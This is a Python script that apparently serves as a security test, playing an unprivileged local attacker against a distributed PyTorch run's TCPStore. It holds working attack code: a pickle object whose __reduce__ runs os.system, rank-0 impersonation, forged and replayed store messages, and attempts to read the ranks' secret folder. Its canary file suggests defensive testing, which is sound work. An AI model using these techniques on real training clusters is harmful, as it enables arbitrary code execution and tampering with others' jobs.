"""Another user of the machine, who attacks the ranks of a run from outside: what a port, a folder or a process lets him do.

    python stranger.py PORT CANARY FOLDER [persistent]

It drops its rights first. Everything that it sends as an object would, if it were unpickled, write the file CANARY. FOLDER is
where the ranks of a machine meet. It tries until it is killed, and prints the names of what it managed.
"""

import os
import socket
import sys
import time
from contextlib import suppress
from datetime import timedelta
from pathlib import Path

import torch
import torch.distributed as dist
from torch.distributed import PrefixStore, TCPStore

UID = 65534
GUESS = bytes(32)


def report(deed):
    sys.stdout.write(f"{deed}\n")
    sys.stdout.flush()


class Evil:
    def __init__(self, canary):
        self._canary = canary

    def __reduce__(self):
        return os.system, (f"id > {self._canary}",)


def join_as_rank_0(store, hello, canary):
    """Answer a rank before rank 0 does, and send it an object (as the ranks of November 2025 could be tricked)."""
    name = store.get(hello).decode(errors="replace")
    store.set(f"ramify/invite/{name}", "evil")
    evil = PrefixStore("evil", PrefixStore("ramify", store))
    evil.wait(["joined/1"], timedelta(seconds=10))
    report("joined")
    evil.set("go", "1")
    collectives = PrefixStore("collectives", evil)
    dist.init_process_group("gloo", store=collectives, rank=0, world_size=2, timeout=timedelta(seconds=10))
    evil.set("command/1", "call")
    dist.scatter_object_list([None], [None, Evil(canary)], src=0)
    dist.gather_object(None, [None, None], dst=0)


def disturb(store, values, is_persistent):
    """Write under every key that a run has, will have or could have: forged messages, and messages that it sent before.

    Where it is not `is_persistent` it takes nothing away that the run has written.
    """
    for key in [key.removeprefix("/") for key in store.list_keys()]:
        if not key.startswith("ramify") or "evil" in key:
            continue
        if key not in values:
            with suppress(RuntimeError):
                values[key] = store.get(key)
                report("read")
        for target in targets(key, is_persistent):
            for message in (GUESS + b"call", GUESS, b"evil", *list(values.values())[-3:]):
                if is_persistent:
                    store.set(target, message)
                else:
                    store.compare_set(target, "", message)
                report("wrote")


def targets(key, is_persistent):
    """The keys of messages that could come, or are read again and again."""
    generation, _, tail = key.partition(".")
    kind, _, ends = tail.partition(".")
    number, _, between = ends.partition(".")
    if number.isdigit():
        yield f"{generation}.{kind}.{int(number) + 1}.{between}"
        yield from (
            f"{generation}.{end}" for end in ("ended.0.0.-1", "beat.0.0.-1", "go.0.0.-1", "command.1.0.-1")
        )
    if is_persistent:
        yield key


def enter(folder):
    """Read the secret of a machine's ranks, or take their place."""
    for path in folder.parent.glob("ramify-ranks-*"):
        for name in ("secret", ""):
            with suppress(OSError):
                (path / name).read_bytes() if name else list(path.iterdir())
                report("entered")


def main(port, canary, folder, is_persistent):
    os.setgroups([])
    os.setresgid(UID, UID, UID)
    os.setresuid(UID, UID, UID)
    assert os.geteuid() == UID
    torch.set_num_threads(1)
    os.environ["GLOO_SOCKET_IFNAME"] = "lo"
    report("ready")
    store, values, has_tried = None, {}, False
    while True:
        enter(folder)
        try:
            if store is None:
                with socket.socket() as probe:
                    probe.connect(("127.0.0.1", port))
                store = TCPStore("127.0.0.1", port, is_master=False, timeout=timedelta(seconds=5))
            if not has_tried and store.check(["ramify/hello/1"]):
                has_tried = True
                join_as_rank_0(store, "ramify/hello/1", canary)
            disturb(store, values, is_persistent)
        except (OSError, RuntimeError) as error:
            report(f"failed: {str(error).splitlines()[0]:.80}")
            store = None
        time.sleep(0.01)


if __name__ == "__main__":
    main(int(sys.argv[1]), sys.argv[2], Path(sys.argv[3]), "persistent" in sys.argv)
